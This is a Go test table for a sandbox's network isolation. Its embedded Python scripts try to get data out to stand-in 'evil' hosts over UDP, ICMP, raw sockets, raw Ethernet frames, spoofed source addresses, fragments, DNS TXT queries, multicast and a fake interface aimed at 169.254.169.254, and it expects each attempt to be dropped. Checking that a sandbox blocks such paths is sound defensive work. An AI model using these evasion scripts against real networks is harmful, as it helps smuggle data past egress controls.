package egress

// Below TCP and UDP, mostly as root.
var packetRows = []evasion{
	{id: "udp", attack: "datagrams to any port", in: listed, script: `
for host in (EVIL4, EVIL6, RAW4):
    for port in (1, 123, 443, 500, 3478, 4500, 5353, 51820):
        shout(host, port)`},
	{id: "icmp", attack: "echo requests that carry data", in: listed, root: true, script: `
for family, proto, kind, address in ((socket.AF_INET, 1, 8, EVIL4), (socket.AF_INET6, 58, 128, EVIL6)):
    for how in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            s = socket.socket(family, how, proto)
            s.settimeout(0.5)
            s.sendto(struct.pack(">BBHHH", kind, 0, 0, 1, 1) + b"evil" * 20, (address, 0))
            print("sent", s.recv(100))
        except OSError as e:
            print("no", e)`, prints: "no timed out", blunt: "ICMP ends at the card in every mode"},
	{id: "raw-sockets", attack: "packets of other protocols from raw sockets (GRE, IP in IP, SCTP, ESP)", in: listed, root: true, script: `
for proto in (4, 41, 47, 50, 132, 255):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)
        s.sendto(b"evil" * 10, (EVIL4, 0))
        print("sent", proto)
    except OSError as e:
        print("no", e)`, prints: "no", ownKernelPrints: "sent", blunt: "gVisor has no raw sockets, and elsewhere they end at the card in every mode"},
	{id: "raw-frames", attack: "frames of other kinds, to other stations, with VLAN tags", in: listed, root: true, script: `
mac = bytes.fromhex("02a701000001")
for kind in (0x88b5, 0x8100, 0x88cc, 0x86dd, 0x0800):
    try:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        s.bind(("eth0", 0))
        s.send(mac + b"\x02\xa7\x01\0\0\x02" + struct.pack(">H", kind) + b"evil" * 20)
        print("sent", hex(kind))
    except OSError as e:
        print("no", e)`, prints: "no", ownKernelPrints: "sent", blunt: "gVisor has no packet sockets, and elsewhere they end at the card in every mode"},
	{id: "spoofed", attack: "packets from an address that is not the guest's", in: listed, root: true, script: `
for address in ("93.184.215.99", "10.87.0.1", "10.87.0.7", "127.0.0.1"):
    run("ip", "addr", "add", address + "/32", "dev", "eth0")
    for kind, target in ((socket.SOCK_DGRAM, (EVIL4, 443)), (socket.SOCK_DGRAM, ("10.87.0.1", 53)), (socket.SOCK_STREAM, (RAW4, 80))):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(0.4)
            s.bind((address, 0))
            s.connect(target)
            s.send(question("spoofed.evil.test") if target[1] == 53 else b"evil\r\n")
            print("sent", s.getsockname(), s.recv(100))
        except OSError as e:
            print("no", address, e)
    run("ip", "addr", "del", address + "/32", "dev", "eth0")`, prints: "no", blunt: "dropped at the card in every mode"},
	{id: "fragments", attack: "datagrams in fragments", in: listed, root: true, script: `
run("ip", "link", "set", "eth0", "mtu", "1280")
try:
    for address in (EVIL4, EVIL6):
        shout(address, 443, b"evil" * 1000)
    print(ask(question("fragment.evil.test", "TXT", b"evil" * 500)))
finally:
    run("ip", "link", "set", "eth0", "mtu", "65520")`, prints: "silence", blunt: "dropped at the card in every mode"},
	{id: "multicast", attack: "multicast and broadcast", in: listed, script: `
for address, port in (("224.0.0.251", 5353), ("239.255.255.250", 1900), ("224.0.0.1", 9), ("ff02::fb%eth0", 5353), ("ff05::2", 9)):
    shout(address, port)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for address in ("255.255.255.255", "10.87.0.255"):
    try:
        s.sendto(b"evil", (address, 67))
    except OSError as e:
        print(e)`, blunt: "dropped at the card in every mode"},
	{id: "foreign-net", attack: "a card with an address of the host's or another network", in: listed, root: true, script: `
run("ip", "addr", "add", "192.168.1.2/24", "dev", "eth0")
run("ip", "route", "add", "169.254.0.0/16", "dev", "eth0")
run("ip", "neigh", "add", "192.168.1.1", "lladdr", "02:a7:01:00:00:01", "dev", "eth0")
try:
    for address in ("192.168.1.1", "169.254.169.254"):
        talk(address, 80, b"GET /evil HTTP/1.0\r\n\r\n", within=1)
        shout(address, 53)
finally:
    run("ip", "addr", "del", "192.168.1.2/24", "dev", "eth0")
    run("ip", "route", "del", "169.254.0.0/16", "dev", "eth0")`, blunt: "dropped at the card in every mode"},
}
